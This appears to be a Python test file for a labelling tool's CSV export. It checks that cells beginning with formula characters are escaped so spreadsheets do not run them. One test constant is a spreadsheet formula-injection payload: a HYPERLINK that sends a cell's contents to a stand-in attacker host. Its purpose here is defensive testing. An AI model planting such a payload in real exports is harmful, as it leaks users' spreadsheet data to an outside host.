"""Texts that a spreadsheet would run, in tables of text."""

from __future__ import annotations

import csv
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tuilabel.labels.exchange import ImportOptions, get_format
from tuilabel.labels.exchange.formulas import BEGINNINGS, guard_rows, guarded, unguarded
from tuilabel.labels.exchange.rows import LabelRow

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"cat")'


@given(st.text(alphabet="'=+-@a \t＝"), st.booleans())
@example("'=x", False)
@example("''=x", True)
def test_every_text_comes_back(text: str, formulas: bool) -> None:
    assert unguarded(guarded(text, formulas=formulas)) == text


@pytest.mark.parametrize("text", [FORMULA, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
def test_no_cell_is_a_formula(text: str) -> None:
    assert not guarded(text, formulas=True).startswith(BEGINNINGS)
    assert guarded(text, formulas=False) == text


def test_ordinary_texts_are_as_they_are() -> None:
    for text in ("cat", "", "'cat'", "it's", "a=b", "'n'"):
        assert guarded(text, formulas=True) == text == unguarded(text)


def test_a_table_for_a_spreadsheet_is_read_back(tmp_path: Path) -> None:
    row = LabelRow(
        "a" * 32, 0, "-1.png", FORMULA, "@ann", None, None, flagged=True, flagged_by="+bob", note="=1", noted_by="="
    )
    csv_format = get_format("csv")
    assert csv_format.stream is not None
    file = StringIO()
    csv_format.stream(guard_rows([row], formulas=True), (FORMULA,), file)
    (written,) = csv.DictReader(StringIO(file.getvalue()))
    assert not any(cell.startswith(BEGINNINGS) for cell in written.values())
    (tmp_path / "l.csv").write_text(file.getvalue())
    (label,) = csv_format.read(tmp_path / "l.csv", ImportOptions())
    assert (label.label, label.path, label.annotator, label.note) == (row.label, row.path, row.annotator, row.note)
    assert (label.flagged_by, label.noted_by) == (row.flagged_by, row.noted_by)
